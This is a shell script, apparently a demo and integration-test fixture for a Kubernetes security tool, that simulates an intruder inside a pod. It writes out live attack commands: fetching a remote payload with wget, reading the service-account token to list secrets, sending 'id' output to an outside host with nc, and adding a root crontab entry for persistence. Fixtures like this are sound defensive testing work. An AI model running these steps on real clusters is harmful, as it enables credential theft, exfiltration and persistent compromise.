# What an intruder does first in a pod they exec'd into, run by busybox's sh inside the pod:
#   kubectl exec -i -n NAMESPACE POD -- sh -s HOST PORT API_PORT < examples/cluster-attack.sh
# HOST: an address of the node that pods reach; PORT: a listener there (the "attacker's" server);
# API_PORT: the kube-apiserver's port on HOST. Used by scripts/demo.sh --cluster and tests/integration/test_dev_cluster.py.
host=$1 port=$2 api_port=$3
account=/var/run/secrets/kubernetes.io/serviceaccount

# A download tool fetches a payload from outside.
wget -q -O /tmp/payload.sh "http://$host:$port/payload.sh"

# The pod's service-account token, read and used against the API (busybox wget checks no certificate).
token=$(cat $account/token)
namespace=$(cat $account/namespace)
wget -q -O - --header "Authorization: Bearer $token" "https://$host:$api_port/api/v1/namespaces/$namespace/secrets" \
  || echo "the API refused the token's request (expected: the default service account may not list secrets)"

# An outbound connection that carries the pod's identity out.
id | nc -w 2 "$host" "$port" >/dev/null || true

# Persistence under a path a node's integrity depends on.
echo "* * * * * root sh /tmp/payload.sh" >> /etc/crontab
echo "attack done"
